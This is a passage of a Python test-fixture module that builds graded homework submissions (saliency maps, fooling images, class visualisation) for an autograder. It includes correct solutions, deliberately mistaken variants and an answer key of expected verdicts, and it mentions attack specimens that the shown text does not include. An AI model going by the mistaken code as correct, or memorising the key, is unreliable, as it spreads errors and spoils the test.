"""A zoo of submissions to grade: honest ones, broken files and attacks, as an instructor might get them in one folder.

Nothing of an attack may run outside of the grader's sandbox. Should the sandbox have a hole, their damage has a bound all the
same: they stop by themselves after some minutes, take no more than 4 GiB, and signal nobody on the machine that built them.
"""

import base64
import contextlib
import copy
import io
import json
import os
import pickle
import re
import shutil
import stat
import string
import struct
import sys
import tarfile
import tempfile
import textwrap
import zipfile
import zlib
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_output

REFERENCE = Path(__file__).resolve().parents[2] / "NetworkVisualization.ipynb"
MARK = "zoo-was-here"  # in the name of each file and process that an attack leaves
MARK_IN_PAGES = "zooWasHere"  # what a script would set in a page, and the host it would ask: zoo-was-here.invalid
PORT = 47231  # of the loopback, to which an attack talks: a test that listens there must hear nothing

SALIENCY, FOOLING, STEP = EXERCISES = ("compute_saliency_maps", "make_fooling_image", "class_visualization_update_step")
SMOOTHGRAD, INTEGRATED, GRAD_CAM, TRANSFORMATION = OPTIONAL = (
    "compute_smoothgrad_maps",
    "compute_integrated_gradients",
    "compute_grad_cam_maps",
    "transform_images",
)
CELLS = {name: f"exercise-{number}" for number, name in enumerate((*EXERCISES, *OPTIONAL), 1)}
SHORT = {"title", *CELLS.values(), "check-1", "check-2", "check-3"}
SHORT |= {name for n in range(1, 10) for name in (f"question-{n}-text", f"answer-{n}")}
FIGURES = {"saliency-figure", "fooling-figure", "class-figure"}

RIGHT = frozenset({"right"})
NOT_RIGHT = frozenset({"wrong", "unfinished", "broken", "missing", "stopped"})
ANY = RIGHT | NOT_RIGHT
UNREAD = frozenset({"missing", "broken"})  # of a file that cannot be read
GRADED, UNREADABLE = frozenset({"graded"}), frozenset({"unreadable"})


@dataclass(frozen=True)
class Specimen:
    """One submission.

    name: the student. what: what it is or tries. kind: "honest", "broken" or "attack". files: what build wrote.
    expected: {exercise: acceptable verdicts}. mistakes: {exercise: ids of the mistakes to be named}.
    points_at_most: {exercise: share of its points}. verdicts: acceptable verdicts on the whole submission.
    traces: glob patterns of files that exist after the grading only if an attack came through or was not cleaned up.
    """

    name: str
    what: str
    kind: str
    files: tuple[Path, ...]
    expected: dict[str, frozenset[str]]
    mistakes: dict[str, tuple[str, ...]] = field(default_factory=dict)
    points_at_most: dict[str, float] = field(default_factory=lambda: dict.fromkeys(EXERCISES, 1.0))
    verdicts: frozenset[str] = GRADED
    traces: tuple[str, ...] = ()


def build(folder, large=200_000_000):
    """Write all submissions into `folder`, which is made if need be, and return their Specimens.

    large: bytes of output in the largest notebook; the zip bombs unpack to five times as much. About 1.5 times `large` is
    needed on the disk.
    """
    folder = Path(folder).resolve()
    folder.mkdir(parents=True, exist_ok=True)
    return [*_honest(folder), *_broken(folder, large), *_attacks(folder, large)]


def keep(folder, specimens, kept):
    """Remove the files of those specimens that are not among `kept` from the folder in which they were built."""
    for path in [path for specimen in specimens if specimen not in kept for path in specimen.files]:
        path.unlink()
        own = folder / path.relative_to(folder).parts[0]
        if own.is_dir() and not any(file.is_file() for file in own.rglob("*")):
            shutil.rmtree(own)


def leftovers(specimens):
    """Return sentences on what attacks have left behind: files, and processes that still run."""
    patterns = sorted({pattern for specimen in specimens for pattern in specimen.traces})
    files = [path for pattern in patterns for path in Path("/").glob(pattern.removeprefix("/"))]
    return [f"{path} is there." for path in files] + [f"Process {text} runs." for text in _marked_processes()]


def _marked_processes():
    for process in Path("/proc").glob("[0-9]*"):
        try:
            name, command = (process / "comm").read_text(), (process / "cmdline").read_bytes().decode(errors="replace")
        except OSError:  # it has ended
            continue
        if int(process.name) != os.getpid() and MARK in name + command:
            yield f"{process.name} ({name.strip()}: {command[:100]})"


# ---------------------------------------------------------------- what students write

RIGHT_CODE = {
    SALIENCY: """\
import torch

def compute_saliency_maps(X, y, model):
    X = X.clone().requires_grad_()
    scores = model(X)
    score = scores.gather(1, y.view(-1, 1)).sum()
    score.backward()
    return X.grad.abs().max(dim=1)[0]
""",
    FOOLING: """\
import torch

def make_fooling_image(X, target_y, model):
    X_fooling = X.clone().requires_grad_()
    learning_rate = 1
    for i in range(100):
        scores = model(X_fooling)
        if scores.argmax() == target_y:
            break
        scores[0, target_y].backward()
        g = X_fooling.grad
        with torch.no_grad():
            X_fooling += learning_rate * g / g.norm()
        X_fooling.grad.zero_()
    return X_fooling.detach()
""",
    STEP: """\
import torch

def class_visualization_update_step(img, model, target_y, l2_reg, learning_rate):
    score = model(img)[0, target_y]
    objective = score - l2_reg * (img ** 2).sum()
    objective.backward()
    with torch.no_grad():
        img += learning_rate * img.grad
    img.grad.zero_()
""",
}

BY_AUTOGRAD = {
    SALIENCY: """\
import torch

def compute_saliency_maps(X, y, model):
    images = X.detach().clone().requires_grad_(True)
    picked = model(images)[torch.arange(len(y)), y]
    grads, = torch.autograd.grad(picked.sum(), images)
    return grads.abs().amax(1)
""",
    FOOLING: """\
import torch

def make_fooling_image(X, target_y, model):
    image = X.detach().clone()
    for step in range(200):
        image.requires_grad_(True)
        out = model(image)
        if out[0].argmax().item() == target_y:
            break
        direction = torch.autograd.grad(out[0, target_y], image)[0]
        image = (image + direction / torch.linalg.vector_norm(direction)).detach()
    return image.detach()
""",
    STEP: """\
import torch

def class_visualization_update_step(img, model, target_y, l2_reg, learning_rate):
    d = torch.autograd.grad(model(img)[0, target_y], img)[0] - 2 * l2_reg * img.detach()
    img.data.add_(learning_rate * d / d.norm())
""",
}

BY_HOOKS = {
    SALIENCY: """\
import torch

def compute_saliency_maps(X, y, model):
    seen = []
    X = X.detach().clone().requires_grad_(True)
    handle = X.register_hook(lambda gradient: seen.append(gradient.clone()))
    scores = model.forward(X)
    scores.backward(torch.nn.functional.one_hot(y, scores.shape[1]).to(scores.dtype))
    handle.remove()
    return torch.amax(torch.abs(seen[0]), dim=1)
""",
    FOOLING: """\
import torch
from torch import optim

def make_fooling_image(X, target_y, model):
    X_fooling = X.detach().clone().requires_grad_(True)
    optimiser = optim.SGD([X_fooling], lr=1, maximize=True)
    for _ in range(100):
        optimiser.zero_grad()
        scores = model(X_fooling)
        if torch.argmax(scores, dim=1).item() == target_y:
            break
        scores[:, target_y].sum().backward()
        X_fooling.grad /= torch.norm(X_fooling.grad) + 1e-12
        optimiser.step()
    return X_fooling.detach()
""",
    STEP: """\
import torch

def class_visualization_update_step(img, model, target_y, l2_reg, learning_rate):
    optimiser = torch.optim.SGD([img], lr=learning_rate)
    optimiser.zero_grad()
    loss = l2_reg * torch.norm(img) ** 2 - model(img)[0, target_y]
    loss.backward()
    optimiser.step()
""",
}


def _changed(exercise, *changes):
    """Return the right code of an exercise with (old, new) exchanged in it."""
    code = RIGHT_CODE[exercise]
    for old, new in changes:
        assert code.count(old) == 1, f"{exercise} holds {old!r} {code.count(old)} times"
        code = code.replace(old, new)
    return code


def _maps(new):
    return _changed(SALIENCY, ("X.grad.abs().max(dim=1)[0]", new))


def _score(new):
    return _changed(SALIENCY, ("scores.gather(1, y.view(-1, 1)).sum()", new))


F = ("import torch\n", "import torch\nimport torch.nn.functional as F\n")
NOT_CLEARED = ("\n        X_fooling.grad.zero_()", "")
REGULARISER = " - l2_reg * (img ** 2).sum()"
IN_PLACE = "        img += learning_rate * img.grad\n"

# (what, {exercise: code}, {exercise: mistakes}); the students of these are named after the first word.
MISTAKEN = [
    (
        "crossentropy in place of the score, three times",
        {
            SALIENCY: _changed(SALIENCY, F, ("scores.gather(1, y.view(-1, 1)).sum()", "F.cross_entropy(scores, y)")),
            FOOLING: _changed(
                FOOLING,
                F,
                ("scores[0, target_y].backward()", "(-F.cross_entropy(scores, torch.tensor([target_y]))).backward()"),
            ),
            STEP: _changed(STEP, F, ("model(img)[0, target_y]", "-F.cross_entropy(model(img), torch.tensor([target_y]))")),
        },
        {SALIENCY: ("cross-entropy",), FOOLING: ("cross-entropy",), STEP: ("cross-entropy",)},
    ),
    (
        "accumulating gradients, and no absolute value",
        {
            SALIENCY: _maps("X.grad.max(dim=1)[0]"),
            FOOLING: _changed(FOOLING, NOT_CLEARED),
            STEP: _changed(STEP, ("    img.grad.zero_()\n", "    model.zero_grad()\n")),
        },
        {SALIENCY: ("no-absolute-value",), FOOLING: ("gradient-accumulates",), STEP: ("gradient-accumulates",)},
    ),
    (
        "unending steps (no stop test), absolute value too late, norm without its square",
        {
            SALIENCY: _maps("X.grad.max(dim=1)[0].abs()"),
            FOOLING: _changed(FOOLING, ("        if scores.argmax() == target_y:\n            break\n", "")),
            STEP: _changed(STEP, ("(img ** 2).sum()", "torch.norm(img)")),
        },
        {SALIENCY: ("absolute-value-too-late",), FOOLING: ("no-stop-test",), STEP: ("regulariser-not-squared",)},
    ),
    (
        "squared norm, mean over the colours, the regulariser's sign",
        {
            SALIENCY: _maps("X.grad.abs().mean(dim=1)"),
            FOOLING: _changed(FOOLING, ("g.norm()", "g.norm() ** 2")),
            STEP: _changed(STEP, (" - l2_reg", " + l2_reg")),
        },
        {SALIENCY: ("mean-over-channels",), FOOLING: ("squared-norm",), STEP: ("regulariser-wrong-sign",)},
    ),
    (
        "rateless step, sum over the colours, gradient not normalised",
        {
            SALIENCY: _maps("X.grad.abs().sum(dim=1)"),
            FOOLING: _changed(FOOLING, (" / g.norm()", "")),
            STEP: _changed(STEP, ("learning_rate * img.grad", "img.grad / img.grad.norm()")),
        },
        {SALIENCY: ("sum-over-channels",), FOOLING: ("not-normalised",), STEP: ("learning-rate-ignored",)},
    ),
    (
        "batchmean, one step too many, half the regulariser",
        {
            SALIENCY: _score("scores.gather(1, y.view(-1, 1)).mean()"),
            FOOLING: _changed(
                FOOLING,
                ("        if scores.argmax() == target_y:\n            break\n", ""),
                (
                    "        X_fooling.grad.zero_()\n",
                    "        X_fooling.grad.zero_()\n        if scores.argmax() == target_y:\n            break\n",
                ),
            ),
            STEP: _changed(STEP, ("- l2_reg * (img ** 2)", "- l2_reg * 0.5 * (img ** 2)")),
        },
        {
            SALIENCY: ("batch-mean",),
            FOOLING: ("one-step-too-many",),
            STEP: ("regulariser-halved",),
        },
    ),
    (
        "probability in place of the score, divided by the sum, regulariser on the weights",
        {
            SALIENCY: _score("scores.softmax(dim=1).gather(1, y.view(-1, 1)).sum()"),
            FOOLING: _changed(FOOLING, ("g.norm()", "g.sum()")),
            STEP: _changed(STEP, ("(img ** 2).sum()", "sum((p ** 2).sum() for p in model.parameters())")),
        },
        {SALIENCY: ("softmax",), FOOLING: ("divided-by-sum",), STEP: ("regulariser-on-weights",)},
    ),
    (
        "inverted stop test, logarithm of the score, regulariser through .data",
        {
            SALIENCY: _score("scores.gather(1, y.view(-1, 1)).log().sum()"),
            FOOLING: _changed(FOOLING, ("scores.argmax() == target_y", "scores.argmax() != target_y")),
            STEP: _changed(STEP, ("(img ** 2).sum()", "(img.data ** 2).sum()")),
        },
        {SALIENCY: ("log-of-score",), FOOLING: ("stop-test-inverted",), STEP: ("regulariser-detached",)},
    ),
    (
        "shapeless maps, a score compared with a class, not in place",
        {
            SALIENCY: _maps("X.grad.abs()"),
            FOOLING: _changed(FOOLING, ("scores.argmax() == target_y", "scores.max() == target_y")),
            STEP: _changed(STEP, ("img += ", "img = img + "), ("    img.grad.zero_()\n", "")),
        },
        {SALIENCY: ("wrong-shape",), FOOLING: ("score-compared-with-class",), STEP: ("not-in-place",)},
    ),
]

# The optional part: with loops, backward and hooks; all at once; with mistakes.
OPTIONAL_CODE = {
    SMOOTHGRAD: """\
import torch

def compute_smoothgrad_maps(X, y, model, noise):
    total = 0
    for one in noise:
        noisy = (X + one).requires_grad_()
        model(noisy)[range(len(y)), y].sum().backward()
        total = total + noisy.grad ** 2
    return (total / len(noise)).max(dim=1)[0]
""",
    INTEGRATED: """\
import torch

def compute_integrated_gradients(X, y, model, baseline, num_steps=32):
    gradients = []
    for k in range(num_steps):
        point = (baseline + (k + 0.5) / num_steps * (X - baseline)).detach().requires_grad_()
        model(point).gather(1, y.view(-1, 1)).sum().backward()
        gradients.append(point.grad)
    return (X - baseline) * torch.stack(gradients).mean(dim=0)
""",
    GRAD_CAM: """\
import torch
import torch.nn.functional as F

def compute_grad_cam_maps(X, y, model):
    seen = []
    handle = model.features.register_forward_hook(lambda module, given, out: seen.append(out))
    scores = model(X.clone().requires_grad_())
    handle.remove()
    grads, = torch.autograd.grad(scores.gather(1, y.view(-1, 1)).sum(), seen[0])
    cam = torch.einsum("nk,nkhw->nhw", grads.mean(dim=(2, 3)), seen[0])
    cam = torch.relu(cam)
    return F.interpolate(cam[:, None], size=X.shape[-2:], mode="bilinear", align_corners=False).squeeze(1)
""",
    TRANSFORMATION: """\
import torch
import torch.nn.functional as F

def transform_images(images, angles, scales, shifts):
    cos, sin = scales * torch.cos(angles), scales * torch.sin(angles)
    dx, dy = 2 * shifts[:, 0], 2 * shifts[:, 1]
    zero, one = torch.zeros_like(cos), torch.ones_like(cos)
    rows = [[cos, sin, dx], [-sin, cos, dy], [zero, zero, one]]
    forward = torch.stack([torch.stack(row, dim=1) for row in rows], dim=1)
    theta = torch.linalg.inv(forward)[:, :2]
    grid = F.affine_grid(theta, images.shape, align_corners=False)
    return F.grid_sample(images, grid, padding_mode="reflection", align_corners=False)
""",
}

OPTIONAL_AT_ONCE = {
    SMOOTHGRAD: """\
import torch

def compute_smoothgrad_maps(X, y, model, noise):
    copies = (X[None] + noise).flatten(0, 1).requires_grad_()
    picked = model(copies).gather(1, y.repeat(len(noise))[:, None])
    gradients = torch.autograd.grad(picked.sum(), copies)[0].view_as(noise)
    return gradients.pow(2).mean(0).amax(1)
""",
    INTEGRATED: """\
import torch

def compute_integrated_gradients(X, y, model, baseline, num_steps=32):
    parts = (torch.arange(num_steps) + 0.5) / num_steps
    points = torch.lerp(baseline[None], X[None], parts.view(-1, 1, 1, 1, 1)).flatten(0, 1).requires_grad_()
    picked = model(points)[torch.arange(len(points)), y.repeat(num_steps)]
    gradients = torch.autograd.grad(picked.sum(), points)[0].view(num_steps, *X.shape)
    return (X - baseline) * gradients.mean(0)
""",
    GRAD_CAM: """\
import torch
from torch.nn.functional import interpolate

def compute_grad_cam_maps(X, y, model):
    features = model.features(X).detach().requires_grad_()
    scores = torch.flatten(model.classifier(features), 1)
    scores[torch.arange(len(y)), y].sum().backward()
    weights = features.grad.mean((2, 3), keepdim=True)
    maps = (weights * features.detach()).sum(1, keepdim=True).clamp(min=0)
    return interpolate(maps, X.shape[2:], mode="bilinear")[:, 0]
""",
    TRANSFORMATION: """\
import torch
import torch.nn.functional as F

def transform_images(images, angles, scales, shifts):
    thetas = []
    for a, s, (dx, dy) in zip(angles, scales, shifts):
        back = torch.tensor([[a.cos(), -a.sin()], [a.sin(), a.cos()]]) / s
        move = back @ torch.tensor([[-2 * dx], [-2 * dy]])
        thetas.append(torch.cat([back, move], dim=1))
    grid = F.affine_grid(torch.stack(thetas), images.shape, align_corners=False)
    return F.grid_sample(images, grid, padding_mode="reflection", align_corners=False)
""",
}


def _optional(exercise, old, new):
    code = OPTIONAL_CODE[exercise]
    assert code.count(old) == 1, f"{exercise} holds {old!r} {code.count(old)} times"
    return code.replace(old, new)


OPTIONAL_MISTAKEN = [
    {
        SMOOTHGRAD: (_optional(SMOOTHGRAD, "noisy.grad ** 2", "noisy.grad.abs()"), "not-squared"),
        INTEGRATED: (_optional(INTEGRATED, "return (X - baseline) *", "return X *"), "baseline-not-in-factor"),
        GRAD_CAM: (_optional(GRAD_CAM, "    cam = torch.relu(cam)\n", ""), "no-relu"),
        TRANSFORMATION: (_optional(TRANSFORMATION, "[cos, sin, dx], [-sin,", "[cos, -sin, dx], [sin,"), "rotates-the-other-way"),
    },
    {
        SMOOTHGRAD: (_optional(SMOOTHGRAD, "(X + one)", "X.clone()"), "noise-ignored"),
        INTEGRATED: (_optional(INTEGRATED, "(k + 0.5)", "k"), "ends-of-parts"),
        GRAD_CAM: (_optional(GRAD_CAM, "grads.mean(dim=(2, 3))", "grads.sum(dim=(2, 3))"), "sum-over-space"),
        TRANSFORMATION: (_optional(TRANSFORMATION, "dx, dy = 2 * shifts[:, 0], 2 *", "dx, dy = shifts[:, 0],"), "shift-half"),
    },
]

STUBS = {
    SALIENCY: 'def compute_saliency_maps(X, y, model):\n    raise NotImplementedError("not implemented yet")\n',
    FOOLING: "def make_fooling_image(X, target_y, model):\n    pass\n",
    STEP: "def class_visualization_update_step(img, model, target_y, l2_reg, learning_rate):\n    return None\n",
}

SCATTERED = {  # helpers, a constant and an alias, each in a cell of its own
    "constants": "import numpy as np\nimport torch as th\nfrom torch import autograd as ag\n\nMAX_STEPS = 100\nRATE: float = 1\n",
    "helpers": """\
def slope(value, at):
    return ag.grad(value, at)[0]

class Climber:
    rate = RATE

    def direction(self, g):
        return self.rate * g / (unit := th.linalg.norm(g))

unit_step = lambda g: Climber().direction(g)
""",
    SALIENCY: """\
def compute_saliency_maps(X, y, model):
    X = X.clone().requires_grad_()
    return slope(model(X)[np.arange(len(y)), y].sum(), X).abs().amax(dim=1)
""",
    FOOLING: """\
def make_fooling_image(X, target_y, model):
    X = X.clone().requires_grad_()
    for _ in range(MAX_STEPS):
        scores = model(X)
        if scores.argmax() == target_y:
            break
        g = slope(scores[0, target_y], X)
        with th.no_grad():
            X += unit_step(g)
    return X.detach()
""",
    STEP: """\
def class_visualization_update_step(img, model, target_y, l2_reg, learning_rate):
    g = slope(model(img)[0, target_y] - l2_reg * img.pow(2).sum(), img)
    with th.no_grad():
        img += learning_rate * unit_step(g)
""",
}

UNICODE = {
    **RIGHT_CODE,
    SALIENCY: """\
import torch

def compute_saliency_maps(X, y, model):
    \"\"\"∂S/∂X — Größe je Pixel, 显著图 🦒\"\"\"
    bilder = X.clone().requires_grad_()
    résultat = model(bilder)
    Σ = résultat.gather(1, y[:, None]).sum()
    (δ,) = torch.autograd.grad(Σ, bilder)
    return δ.abs().amax(dim=1)
""",
}

MAGICS = {
    SALIENCY: "%matplotlib inline\n%load_ext autoreload\n!pip list\n" + RIGHT_CODE[SALIENCY] + "\n%timeit 1 + 1\nmodel?\n",
    FOOLING: "%%time\n" + RIGHT_CODE[FOOLING],
    STEP: RIGHT_CODE[STEP] + "\nfiles = !ls\n%autoreload 2\n",
}

SLOW = {
    SALIENCY: _changed(
        SALIENCY, ("import torch\n", "import time\nimport torch\n"), ("    score.b", "    time.sleep(0.1)\n    score.b")
    ),
    FOOLING: _changed(
        FOOLING, ("import torch\n", "import time\nimport torch\n"), ("    learning", "    time.sleep(0.1)\n    learning")
    ),
    STEP: _changed(STEP, ("import torch\n", "import time\nimport torch\n"), ("    score", "    time.sleep(0.1)\n    score")),
}

TALKATIVE = {
    SALIENCY: _changed(
        SALIENCY, ("    scores =", "    print(X)\n    for line in range(300):\n        print(line, X.shape)\n    scores =")
    ),
    FOOLING: _changed(FOOLING, ("        g =", "        print(f'step {i}', scores)\n        g =")),
    STEP: _changed(STEP, ("    score =", "    print(img, '█' * 5000, flush=True)\n    score =")),
}

UNBOUNDED = {**RIGHT_CODE, FOOLING: _changed(FOOLING, ("for i in range(100):", "while True:"))}

FIVE_IMAGES = {**RIGHT_CODE, SALIENCY: _score("scores[range(5), y].sum()")}


# ---------------------------------------------------------------- notebooks


@cache
def _reference():
    return nbformat.read(REFERENCE, as_version=4)


def _notebook(codes, answers=None, extra=(), full=False, figures=False):
    """Return a student's notebook.

    codes: {exercise: source}; other keys are cells before the exercises. answers: text of all answers, by default a guess.
    extra: cells at the end. full: with all cells of the reference; else a short one. figures: with pictures of theirs.
    """
    notebook = copy.deepcopy(_reference())
    names = {cell: exercise for exercise, cell in CELLS.items()}
    exercises = set(names.values())
    cells = []
    for cell in notebook.cells:
        if not (full or cell.id in SHORT or (figures and cell.id in FIGURES)):
            continue
        if cell.id in names or (cell.cell_type == "code" and not (full or figures)):
            cell.outputs, cell.execution_count = [], None
        if cell.id in names:
            if names[cell.id] not in codes:
                continue
            cell.source = codes[names[cell.id]]
        if cell.id.startswith("answer-"):
            number = cell.id.removeprefix("answer-")
            cell.source = f"My answer to question {number}: the sign is lost." if answers is None else answers
        cells.append(cell)
    before = [new_code_cell(source, id=name) for name, source in codes.items() if name not in exercises]
    notebook.cells = [*cells[:1], *before, *cells[1:], *extra]
    return notebook


def _written(notebook):
    return json.dumps(notebook, ensure_ascii=False, indent=1).encode()  # nbformat would mend or refuse what is odd


def _right_bytes():
    return _written(_notebook(RIGHT_CODE))


def _zip(entries, compression=zipfile.ZIP_DEFLATED):
    """Return the bytes of a zip. entries: {name or ZipInfo: bytes}."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _put(folder, name, suffix, content):
    path = folder / f"{name}{suffix}"
    path.write_bytes(content)
    return (path,)


# ---------------------------------------------------------------- honest submissions


def _honest(folder):
    for name, what, notebook in _honest_notebooks():
        yield Specimen(name, what, "honest", _put(folder, name, ".ipynb", _written(notebook)), dict.fromkeys(EXERCISES, RIGHT))
    for what, codes, mistakes in MISTAKEN:
        name = re.match(r"\w+", what)[0]
        notebook = _notebook(codes)
        expected = dict.fromkeys(EXERCISES, frozenset({"wrong"}))
        yield Specimen(name, what, "honest", _put(folder, name, ".ipynb", _written(notebook)), expected, mistakes)
    yield from _honest_files(folder)
    yield from _as_tools_leave_it(folder)
    yield from _with_the_optional_part(folder)


def _honest_notebooks():
    yield "autograd", "all right, by autograd.grad, in the whole notebook with its figures", _notebook(BY_AUTOGRAD, full=True)
    yield "backward", "all right, by backward and .grad, with three figures", _notebook(RIGHT_CODE, figures=True)
    yield "hooks", "all right, by hooks and optimisers", _notebook(BY_HOOKS)
    yield "scattered", "all right, with helpers, constants and aliases in other cells", _notebook(SCATTERED)
    yield "magics", "all right, with IPython's magics and shell commands in the cells", _notebook(MAGICS)
    first = {f"{CELLS[name]}-first": code for name, code in STUBS.items()}
    yield "second-thoughts", "each exercise twice: first a stub, then right", _notebook({**first, **RIGHT_CODE})
    twice = _notebook(RIGHT_CODE)
    twice.cells += copy.deepcopy(twice.cells)
    yield "duplicated", "all cells are there twice, with the same ids", twice
    yield "renamed", "all right, in a notebook of an older format, so without cell ids, and without tags", _without_ids()
    backwards = _notebook(RIGHT_CODE)
    backwards.cells.reverse()
    yield "backwards", "all right, the cells in reverse order", backwards
    yield "speechless", "all right, but all answers are empty", _notebook(RIGHT_CODE, answers="")
    text = (
        "Das Vorzeichen geht verloren, 符号丢失 🦒 \u202eesrever\u202c \0 <b>fett</b> $\\nabla S_y$ Z\u0351\u036b\u0343a\u0344lgo"
    )
    yield "josé-núñez-李-🦒", "all right, with names and texts in Unicode", _notebook(UNICODE, answers=text)
    yield "slow", "all right, but each call sleeps for 0.1 seconds", _notebook(SLOW)
    yield "talkative", "all right, but prints some hundred lines a call", _notebook(TALKATIVE)
    yield "unbounded", "all right, with an unbounded while loop in make_fooling_image", _notebook(UNBOUNDED)
    yield "five-images", "all right, but hard-coded to a batch of five", _notebook(FIVE_IMAGES)


def _without_ids():
    notebook = _notebook(RIGHT_CODE)
    notebook.nbformat_minor = 4
    for cell in notebook.cells:
        del cell["id"]
        cell.metadata = {}
    return notebook


def _honest_files(folder):
    stubs = dict.fromkeys(EXERCISES, frozenset({"unfinished"}))
    path = _put(folder, "unfinished", ".ipynb", _written(_notebook(STUBS)))
    yield Specimen("unfinished", "three stubs: NotImplementedError, pass, return None", "honest", path, stubs)

    worse = {f"{CELLS[name]}-first": code for name, code in RIGHT_CODE.items()}
    notebook = _notebook({**worse, SALIENCY: _maps("X.grad.max(dim=1)[0]")})
    expected = {**dict.fromkeys(EXERCISES, RIGHT), SALIENCY: frozenset({"wrong"})}
    path = _put(folder, "worsened", ".ipynb", _written(notebook))
    what = "exercise 1 twice: first right, then wrong, which counts; the others stand in cells of other names"
    yield Specimen("worsened", what, "honest", path, expected, {SALIENCY: ("no-absolute-value",)})

    half = {**RIGHT_CODE, FOOLING: _changed(FOOLING, ("    return", "    input('ready? ')\n    return"))}
    expected = {**dict.fromkeys(EXERCISES, RIGHT), FOOLING: frozenset({"broken", "stopped"})}
    path = _put(folder, "asking", ".ipynb", _written(_notebook(half)))
    yield Specimen("asking", "exercise 2 waits for the keyboard", "honest", path, expected)

    all_right = dict.fromkeys(EXERCISES, RIGHT)
    path = _put(folder, "pythonic", ".py", "\n\n".join(BY_AUTOGRAD.values()).encode())
    yield Specimen("pythonic", "all right, in a Python file", "honest", path, all_right)

    handed_in = {"NetworkVisualization.ipynb": _right_bytes(), "NetworkVisualization.html": b"<!doctype html><title>copy</title>"}
    path = _put(folder, "zipped", ".zip", _zip(handed_in))
    yield Specimen("zipped", "all right, as submit makes it: a zip of the notebook and an HTML copy", "honest", path, all_right)

    stale = _written(_notebook(STUBS))
    mac = {
        "HW3/.ipynb_checkpoints/NetworkVisualization-checkpoint.ipynb": stale,
        "HW3/cs231n/__init__.py": b"",
        "HW3/NetworkVisualization.ipynb": _right_bytes(),
        "__MACOSX/HW3/._NetworkVisualization.ipynb": b"\x00\x05\x16\x07Mac OS X",
    }
    path = _put(folder, "macintosh", ".zip", _zip(mac))
    what = "all right, in a folder of a zip, beside an old checkpoint and what macOS adds"
    yield Specimen("macintosh", what, "honest", path, all_right)


def _as_tools_leave_it(folder):
    """Honest work in other files than the one notebook that was given out."""
    all_right = dict.fromkeys(EXERCISES, RIGHT)
    imports = {name: f"from cs231n.net_visualization_pytorch import {name}\n" for name in EXERCISES}
    importing, module = _written(_notebook(imports)), "\n\n".join(RIGHT_CODE.values()).encode()

    own = folder / "own-module"
    (own / "cs231n").mkdir(parents=True)
    paths = own / "NetworkVisualization.ipynb", own / "cs231n" / "net_visualization_pytorch.py"
    for path, content in zip(paths, (importing, module), strict=True):
        path.write_bytes(content)
    yield Specimen("own-module", "all right, in a module beside the notebook, which imports it", "honest", paths, all_right)
    packed = _zip({"kit/nb.ipynb": importing, "kit/cs231n/net_visualization_pytorch.py": module})
    path = _put(folder, "own-module-zipped", ".zip", packed)
    yield Specimen("own-module-zipped", "the same in a zip", "honest", path, all_right)

    stub_newer = {"kit/NetworkVisualization.ipynb": _written(_notebook(STUBS)), "solved.ipynb": _right_bytes()}
    path = _put(folder, "stub-beside", ".zip", _zip(stub_newer))
    yield Specimen("stub-beside", "all right, and beside it the notebook as it was given out", "honest", path, all_right)

    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w:gz") as archive:
        info = tarfile.TarInfo("hw/nb.ipynb")
        info.size = len(_right_bytes())
        archive.addfile(info, io.BytesIO(_right_bytes()))
    yield Specimen("tarred", "all right, in a tar", "honest", _put(folder, "tarred", ".tgz", tar.getvalue()), all_right)
    path = _put(folder, "download", ".ipynb.json", _right_bytes())
    yield Specimen("download", "all right, under the name that a browser gave", "honest", path, all_right)

    typed = {**RIGHT_CODE, SALIENCY: RIGHT_CODE[SALIENCY].replace("(X, y, model)", '(X: Float[Tensor, "N 3 H W"], y, model)')}
    path = _put(folder, "annotated", ".ipynb", _written(_notebook({"types": "from jaxtyping import Float", **typed})))
    yield Specimen("annotated", "all right, with annotations from a package that is missing", "honest", path, all_right)

    newer = {**RIGHT_CODE, SALIENCY: RIGHT_CODE[SALIENCY].replace("    return", '    t"{X}"\n    return')}
    expected = {**all_right, SALIENCY: frozenset({"newer-python"} if sys.version_info < (3, 14) else RIGHT)}
    path = _put(folder, "newer", ".ipynb", _written(_notebook(newer)))
    yield Specimen("newer", "all right, with a template string of Python 3.14", "honest", path, expected)

    cells = [f"@app.cell\ndef _():\n{textwrap.indent(code, '    ')}\n    return\n" for code in RIGHT_CODE.values()]
    text = "import marimo\napp = marimo.App()\n\n" + "\n".join(cells)
    path = _put(folder, "marimo", ".py", text.encode())
    yield Specimen("marimo", "all right, in a marimo notebook", "honest", path, all_right)


def _with_the_optional_part(folder):
    def specimen(name, what, codes, expected, mistakes=None):
        path = _put(folder, name, ".ipynb", _written(_notebook(codes)))
        return Specimen(name, what, "honest", path, dict.fromkeys(EXERCISES, RIGHT) | expected, mistakes or {})

    all_right = dict.fromkeys(OPTIONAL, RIGHT)
    yield specimen("bonus-loops", "all right, with the optional part", RIGHT_CODE | OPTIONAL_CODE, all_right)
    yield specimen("bonus-at-once", "all right, the optional part in other ways", BY_HOOKS | OPTIONAL_AT_ONCE, all_right)
    for number, changes in enumerate(OPTIONAL_MISTAKEN, 1):
        codes = {exercise: code for exercise, (code, _) in changes.items()}
        mistakes = {exercise: (mistake,) for exercise, (_, mistake) in changes.items()}
        expected = dict.fromkeys(OPTIONAL, frozenset({"wrong"}))
        yield specimen(f"bonus-mistaken-{number}", "a mistake in each optional exercise", RIGHT_CODE | codes, expected, mistakes)
    codes, expected = {name: _right_when_small(name) for name in OPTIONAL}, dict.fromkeys(OPTIONAL, frozenset({"wrong"}))
    what = "the optional part is right on small images, and nothing comes out of photographs"
    yield specimen("bonus-small-only", what, RIGHT_CODE | codes, expected, dict.fromkeys(OPTIONAL, ()))
    stub = 'def compute_smoothgrad_maps(X, y, model, noise):\n    raise NotImplementedError("not implemented yet")\n'
    broken = _optional(TRANSFORMATION, "torch.cos", "torch.cosine")
    codes = RIGHT_CODE | {SMOOTHGRAD: stub, INTEGRATED: OPTIONAL_CODE[INTEGRATED], TRANSFORMATION: broken}
    verdicts = dict(zip(OPTIONAL, ("unfinished", "right", "missing", "broken"), strict=True))
    expected = {exercise: frozenset({verdict}) for exercise, verdict in verdicts.items()}
    yield specimen("bonus-partly", "of the optional part a stub, one right, one left out, one broken", codes, expected)


def _right_when_small(exercise):
    right = OPTIONAL_CODE[exercise].replace(f"def {exercise}", f"def right_{exercise}")
    wrapped = f"""
def {exercise}(X, *more):
    found = right_{exercise}(X, *more)
